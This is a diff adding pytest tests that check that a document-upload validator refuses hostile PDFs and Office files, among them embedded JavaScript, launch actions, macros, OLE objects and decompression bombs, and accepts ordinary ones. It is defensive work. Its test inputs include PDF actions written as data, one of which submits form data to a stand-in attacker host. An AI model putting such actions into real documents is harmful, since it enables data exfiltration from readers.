@@ -366,6 +366,229 @@ def test_pdf_cut_in_the_middle_is_refused():
     assert refusal("baocao.pdf", content[:6000]).code == "pdf_truncated"
 
 
+# The hostile files are built in hostile_files.py; each is refused for what it is, parsed by qpdf.
+
+
+def hostile(name: str) -> bytes:
+    from inspections.tests import hostile_files
+
+    return getattr(hostile_files, name)()
+
+
+@pytest.mark.parametrize(
+    ("builder", "code", "says"),
+    [
+        ("pdf_hex_escaped_javascript", "pdf_active", "mã chạy tự động"),
+        ("pdf_javascript_after_first_megabyte", "pdf_active", "mã chạy tự động"),
+        ("pdf_javascript_in_object_stream", "pdf_active", "mã chạy tự động"),
+        ("pdf_javascript_in_names_tree", "pdf_active", "mã chạy tự động"),
+        ("pdf_javascript_on_page_open", "pdf_active", "mã chạy tự động"),
+        ("pdf_launch_annotation", "pdf_active", "mã chạy tự động"),
+        ("pdf_embedded_file", "pdf_embedded", "tệp nhúng"),
+        ("pdf_xfa_form", "pdf_xfa", "XFA"),
+        ("pdf_encrypted_rc4_owner_password_only", "pdf_encrypted", "mật khẩu"),
+        ("pdf_encrypted_aes_with_password", "pdf_encrypted", "mật khẩu"),
+        ("pdf_html_behind_header", "pdf_damaged", "không đọc được"),
+        ("pdf_broken_cross_reference", "pdf_damaged", "không đọc được"),
+        ("pdf_with_html_after_eof", "pdf_trailing", "sau phần kết thúc"),
+        ("pdf_without_pages", "pdf_no_pages", "không có trang nào"),
+    ],
+)
+def test_hostile_pdf_is_refused(builder, code, says):
+    error = refusal("baocao.pdf", hostile(builder))
+    assert (error.code, says in error.messages[0]) == (code, True), error.messages
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"/OpenAction << /S /SubmitForm /F (http://ke-xau.example/thu) >>",
+        b"/OpenAction << /S /ImportData /F (du-lieu.fdf) >>",
+        b"/OpenAction << /S /GoToR /F (\\\\may-chu\\chia-se\\x.pdf) /D [0 /Fit] >>",
+        b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>",
+        b"/OpenAction << /S /Rendition /JS (app.alert(1)) >>",
+        b"/OpenAction 4 0 R /Extra << /Subtype /RichMedia >>",
+    ],
+)
+def test_pdf_with_other_dangerous_actions_is_refused(action):
+    assert refusal("baocao.pdf", pdf_bytes(action)).code == "pdf_active"
+
+
+def test_pdf_text_that_merely_mentions_javascript_is_accepted():
+    """Names are found by parsing: a title that says “/JavaScript” is a string, not a name."""
+    content = pdf_bytes(b"/Title (Hu\\)ong dan /JavaScript /JS \\(/Launch\\)) /Subject <2f4a53>")
+    assert check_upload(upload("baocao.pdf", content)).kind == "pdf"
+
+
+def test_pdf_with_too_many_objects_is_refused(monkeypatch):
+    monkeypatch.setattr("inspections.uploads.PDF_MAX_OBJECTS", 2)  # pdf_bytes() has three
+    error = refusal("baocao.pdf", pdf_bytes())
+    assert error.code == "pdf_too_complex"
+    assert "phức tạp bất thường" in error.messages[0]
+    monkeypatch.setattr("inspections.uploads.PDF_MAX_OBJECTS", 3)
+    assert check_upload(upload("baocao.pdf", pdf_bytes())).kind == "pdf"
+
+
+def test_pdf_whose_object_stream_unpacks_to_too_much_is_refused_before_parsing():
+    """500 KB that qpdf would unpack to 500 MB in memory to read the one object inside."""
+    from inspections.tests.hostile_files import pdf_object_stream_bomb
+
+    content = pdf_object_stream_bomb()
+    assert len(content) < 1024 * 1024
+    assert refusal("baocao.pdf", content).code == "pdf_too_complex"
+    small = pdf_object_stream_bomb(4 * 1024 * 1024)  # the same shape, under the limit
+    assert check_upload(upload("baocao.pdf", small)).kind == "pdf"
+
+
+@pytest.mark.parametrize("tail", [b"", b"\n", b"\r\n", b"  \r\n\0"])
+def test_pdf_with_a_little_whitespace_after_eof_is_accepted(tail):
+    assert check_upload(upload("baocao.pdf", pdf_bytes() + tail)).kind == "pdf"
+
+
+def test_pdf_with_more_than_a_little_after_eof_is_refused():
+    assert refusal("baocao.pdf", pdf_bytes() + b" " * 200).code == "pdf_trailing"
+    assert refusal("baocao.pdf", pdf_bytes() + b"x").code == "pdf_trailing"
+
+
+def pikepdf_bytes(build=None, **options) -> bytes:
+    import pikepdf
+
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        if build:
+            build(pdf)
+        buffer = io.BytesIO()
+        pdf.save(buffer, **options)
+        return buffer.getvalue()
+
+
+def test_ordinary_pdf_features_are_accepted():
+    """Links to web pages, outlines, object streams and an incremental update are ordinary."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name, String
+
+    def build(pdf):
+        link = Dictionary(
+            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 20]),
+            A=Dictionary(S=Name.URI, URI=String("https://thuvienphapluat.vn/")),
+        )  # fmt: skip
+        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
+        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
+        pdf.Root.PageMode = Name.UseOutlines
+
+    content = pikepdf_bytes(build, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert check_upload(upload("baocao.pdf", content)).kind == "pdf"
+
+
+def test_incrementally_updated_pdf_is_accepted():
+    """A PDF saved again by a reader that appends its changes: two %%EOF, the last one counts."""
+    original = pdf_bytes()
+    previous = int(original.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    update = bytearray(original)
+    offset = len(update)
+    update += b"4 0 obj\n<< /Producer (Foxit) >>\nendobj\n"
+    xref = len(update)
+    update += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n" % offset
+    update += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        previous,
+        xref,
+    )
+    assert bytes(update).count(b"%%EOF") == 2
+    assert check_upload(upload("baocao.pdf", bytes(update))).kind == "pdf"
+
+
+def test_pdf_made_by_weasyprint_is_accepted():
+    from weasyprint import HTML
+
+    content = HTML(string="<h1>Báo cáo tự kiểm tra</h1><p>Năm 2023</p>").write_pdf()
+    assert check_upload(upload("Báo cáo.pdf", content)).kind == "pdf"
+
+
+@pytest.mark.parametrize(
+    ("name", "builder"),
+    [
+        ("baocao.docx", "docx_with_renamed_vba"),
+        ("bangdiem.xlsx", "xlsx_with_renamed_vba"),
+        ("baocao.docx", "docm_named_docx"),
+        ("bangdiem.xlsx", "xlsm_named_xlsx"),
+        ("baocao.docx", "docx_with_vba_content_type"),
+    ],
+)
+def test_office_macros_are_found_by_content_type_and_content(name, builder):
+    error = refusal(name, hostile(builder))
+    assert error.code == "macro"
+    assert "macro" in error.messages[0]
+
+
+def test_office_file_with_an_embedded_ole_object_is_refused():
+    error = refusal("bangdiem.xlsx", hostile("xlsx_with_ole_package"))
+    assert error.code == "ole_object"
+    assert "đối tượng nhúng" in error.messages[0]
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        b"application/vnd.ms-excel.macrosheet+xml",  # Excel 4.0 macros
+        b"application/vnd.ms-excel.intlmacrosheet+xml",
+        b"application/vnd.ms-word.vbaData+xml",
+    ],
+)
+def test_office_macro_content_types_are_refused(content_type):
+    from inspections.tests.hostile_files import with_parts
+
+    default = b'<Default Extension="bin" ContentType="' + content_type + b'"/>'
+    content = with_parts(
+        xlsx_bytes(), {"xl/x.bin": b"x"}, content_types=(b"<Default ", default + b"<Default ")
+    )
+    assert refusal("bangdiem.xlsx", content).code == "macro"
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        b"application/vnd.openxmlformats-officedocument.oleObject",
+        b"application/vnd.ms-office.activeX+xml",
+    ],
+)
+def test_office_ole_and_activex_content_types_are_refused(content_type):
+    from inspections.tests.hostile_files import with_parts
+
+    default = b'<Default Extension="bin" ContentType="' + content_type + b'"/>'
+    content = with_parts(
+        docx_bytes(), {"word/x.bin": b"x"}, content_types=(b"<Default ", default + b"<Default ")
+    )
+    assert refusal("baocao.docx", content).code == "ole_object"
+
+
+def test_password_protected_docx_is_refused_as_encrypted_not_as_old_format():
+    """Office wraps a password-protected .docx in an OLE file with an EncryptedPackage."""
+    from inspections.tests.hostile_files import cfb
+
+    content = cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64})
+    error = refusal("baocao.docx", content)
+    assert error.code == "encrypted"
+    assert "mật khẩu" in error.messages[0]
+
+
+def test_office_part_with_an_unknown_compression_method_is_refused_as_damaged():
+    """Method 99 (WinZip AES) or any other zipfile cannot unpack: damaged, not a server error."""
+    import struct
+
+    data = bytearray(zip_bytes(DOCX_PARTS))
+    for signature, at in ((b"PK\x01\x02", 10), (b"PK\x03\x04", 8)):
+        start = data.find(signature)
+        while start >= 0:
+            data[start + at : start + at + 2] = struct.pack("<H", 99)
+            start = data.find(signature, start + 4)
+    assert refusal("baocao.docx", bytes(data)).code == "damaged"
+
+
+def test_office_content_types_that_cannot_be_read_are_refused_as_damaged():
+    content = zip_bytes({**DOCX_PARTS, "[Content_Types].xml": b"<Types><Default"})
+    assert refusal("baocao.docx", content).code == "damaged"
+
+
 # --- names ---------------------------------------------------------------------------------
 
 
